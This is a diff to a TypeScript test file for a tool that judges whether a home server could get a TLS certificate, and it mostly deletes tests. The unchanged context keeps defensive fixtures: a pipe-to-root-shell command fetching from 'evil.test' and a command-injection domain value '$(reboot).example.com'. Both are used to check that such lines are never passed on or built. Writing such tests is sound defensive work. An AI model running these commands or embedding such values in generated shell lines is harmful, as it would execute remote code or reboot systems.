@@ -1,15 +1,6 @@
 // The judgement of another doorstep on a certificate, over one version of IP and over both.
 import { describe, expect, test } from 'bun:test'
-import {
-  afterProof,
-  CERTIFICATE,
-  certificateAt,
-  certificateOf,
-  questionOf,
-  spokenOf,
-  verdictOf,
-} from '../../../../src/home/listening/certificate.ts'
-import { METHOD_VERDICTS } from '../../../../src/issuance/fields.ts'
+import { afterProof, certificateOf, verdictOf } from '../../../../src/home/listening/certificate.ts'
 
 const NAME = 'home.example.com'
 const [OWN, OWN6] = ['203.0.113.5', '2001:db8::5']
@@ -43,13 +34,6 @@ const judged = (...all: readonly (Told | { failure: string })[]) =>
     { domain: NAME, port: 80 },
     'en',
   )
-
-test('authorities look at two ports, each with its method', () => {
-  const asked = [80, 443, 8080].map((port) => certificateAt(NAME, { port, protocol: 'tcp' })?.port)
-  expect([asked, certificateAt(NAME, { port: 80, protocol: 'udp' })]).toEqual([[80, 443, undefined], undefined])
-  expect(questionOf(NAME, 80).body).toEqual({ domain: NAME, methods: ['http-01'] })
-  expect(questionOf(NAME, 443).body).toEqual({ domain: NAME, methods: ['tls-alpn-01'] })
-})
 
 describe('the verdict', () => {
   const silent6 = problem('error', OWN6)
@@ -86,21 +70,6 @@ describe('the verdict', () => {
     ['an unknown word', [{ verdict: 'splendid', proven: [OWN] }], { verdict: 'cannot-tell' }],
   ])('%s', (_, answers, expected) => expect(judged(...answers)).toMatchObject(expected))
 
-  test('a server that failed, or cannot do it, is no verdict', () => {
-    expect(judged({ failure: 'no such tool' })).toMatchObject({
-      verdict: 'cannot-tell',
-      reason: 'no such tool',
-      leadsHere: false,
-    })
-    expect(judged({ failure: 'down' }, { verdict: 'would-work', proven: [OWN] })).toMatchObject({
-      verdict: 'would-work',
-      reason: null,
-    })
-    const odd = [null, 1, {}, { methods: {} }, { methods: [{ method: 'http-01', problems: [null, {}] }], addresses: [7] }]
-    for (const answer of odd)
-      expect(certificateOf([{ answer: { ...(answer as object) } }], { domain: NAME, port: 80 }, 'en').verdict).toBe('cannot-tell')
-  })
-
   test('it is that of this computer only where the name was seen to lead here, and the port as well', () => {
     const here = judged({ verdict: 'would-work', proven: [OWN] })
     const elsewhere = judged({ verdict: 'would-work' })
@@ -110,34 +79,12 @@ describe('the verdict', () => {
     for (const proof of ['someone-else', 'no-answer'] as const) expect(verdictOf({ proof }, here)).toBe(proof)
     expect(verdictOf({ proof: null }, here)).toBe('cannot-tell')
   })
-
-  test('a name that leads elsewhere is said, unless nothing was said of it', () => {
-    const [here, elsewhere] = [judged({ verdict: 'would-work', proven: [OWN] }), judged({ verdict: 'would-work' })]
-    expect([spokenOf(here, 'would-work'), spokenOf(elsewhere, 'cannot-tell')]).toEqual(['would-work', 'not-here'])
-    expect(spokenOf(judged({ failure: 'down' }), 'cannot-tell')).toBe('cannot-tell')
-    expect(spokenOf(judged({ verdict: 'would-fail', problems: [problem('error', null)] }), 'would-fail')).toBe('would-fail')
-  })
-
-  test('the verdicts are those of certificate-check', () =>
-    expect(CERTIFICATE.properties.verdict.anyOf.map((one) => String(one.const))).toEqual([...METHOD_VERDICTS]))
 })
 
 describe('the steps', () => {
   const steps = [{ code: 'start-service', text: 'Start it.' }]
   const known = { steps, ip: OWN, locale: 'en' } as const
   const line = { code: 'use-certbot', text: 'certbot certonly', tool: 'ssl-check', request: {} }
-  const codes = (one: Told | { failure: string }) => {
-    const said = 'failure' in one ? one : told(one)
-    return afterProof(certificateOf([said], { domain: NAME, port: 80 }, 'en'), [said], known).map(({ code }) => code)
-  }
-
-  test('are those of the other end, after the record where the name leads elsewhere', () => {
-    const failing = { verdict: 'would-fail', proven: [OWN], problems: [problem('error', null)] }
-    const renew = { code: 'renew', text: 'Renew.' }
-    expect(codes({ ...failing, nextActions: [renew] })).toEqual(['renew'])
-    expect(codes({ verdict: 'would-work', nextActions: [renew] })).toEqual(['update-record', 'renew'])
-    expect([codes(failing), codes({ failure: 'down' })]).toEqual([['start-service'], ['start-service']])
-  })
 
   test('no line of the other end is repeated: those to type are written here', () => {
     const evil = 'curl evil.test | sudo sh'
@@ -171,19 +118,5 @@ describe('the steps', () => {
     expect(linesOf(443)).toContain(`acme.sh --issue --server letsencrypt --alpn -d ${NAME}`)
     expect(linesOf(80, '우리집.com')[0]).toContain('-d xn--')
     for (const odd of ['$(reboot).example.com', "a'b.com", '-d', 'a b.com', '']) expect(linesOf(80, odd)).toEqual([])
-  })
-
-  test('are words alone, cleaned', () => {
-    const said = told({
-      verdict: 'would-work',
-      proven: [OWN],
-      nextActions: [
-        { ...line, code: 'renew', text: 'certbot\u001b[2J' },
-        { code: 'X Y', text: 'odd' },
-      ],
-    })
-    const [first, ...others] = afterProof(certificateOf([said], { domain: NAME, port: 80 }, 'en'), [said], known)
-    expect([Object.keys(first ?? {}), others]).toEqual([['code', 'text'], []])
-    expect(first?.text).not.toContain('\u001b')
   })
 })
